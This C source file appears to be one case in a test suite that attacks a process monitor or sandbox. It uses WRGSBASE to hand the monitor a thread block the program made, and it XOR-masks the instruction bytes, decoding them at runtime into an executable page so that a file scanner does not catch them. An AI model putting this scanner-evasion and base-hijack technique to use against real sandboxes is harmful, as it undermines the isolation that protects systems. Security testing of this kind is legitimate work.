/*
 * I6: WRGSBASE gives the monitor a thread block of the program's making. The goal is that it is
 * used. Natively the program uses its own %gs base.
 */
#include "attack.h"
#include <sys/auxv.h>

#define CONTINUATION 1 /* the word that an entry writes first */

static uint64_t read_base(void)
{
    uint64_t base;
    __asm__ volatile("rdgsbase %0" : "=r"(base));
    return base;
}

/* `wrgsbase %rdi; ret`: a file that holds it would be refused as a whole. */
static void *make_writer(void)
{
    static const volatile uint8_t masked[] = {0xf3 ^ 0x55, 0x48 ^ 0x55, 0x0f ^ 0x55,
                                              0xae ^ 0x55, 0xdf ^ 0x55, 0xc3 ^ 0x55};
    uint8_t *page = map_pages(PAGE, PROT_READ | PROT_WRITE);
    for (size_t i = 0; i < sizeof masked; i++) {
        page[i] = masked[i] ^ 0x55;
    }
    if (mprotect(page, PAGE, PROT_READ | PROT_EXEC) != 0) {
        not_reached("%s", strerrorname_np(errno));
    }
    return page;
}

static void write_base(void *writer, const void *base)
{
    void (*write)(const void *);
    memcpy(&write, &writer, sizeof write);
    write(base);
}

int main(void)
{
    CHECK((getauxval(AT_HWCAP2) & 2) != 0, "the processor or the kernel has no WRGSBASE");
    bool monitored = under_monitor();
    void *writer = make_writer();
    const void *own = (const void *)read_base();
    uint64_t *block = map_pages(2 * PAGE, PROT_READ | PROT_WRITE); /* block and shared page */
    if (monitored) {
        memcpy(block, own, 2 * PAGE);
        block[0] = (uint64_t)block;
    }
    uint64_t before = block[CONTINUATION];
    write_base(writer, block);
    if (monitored) {
        raw(SYS_getpid);
    } else {
        __asm__ volatile("movq %%rsp, %%gs:8" : : : "memory");
    }
    write_base(writer, own);
    if (block[CONTINUATION] != before) {
        reached();
    }
    not_reached("unused");
}
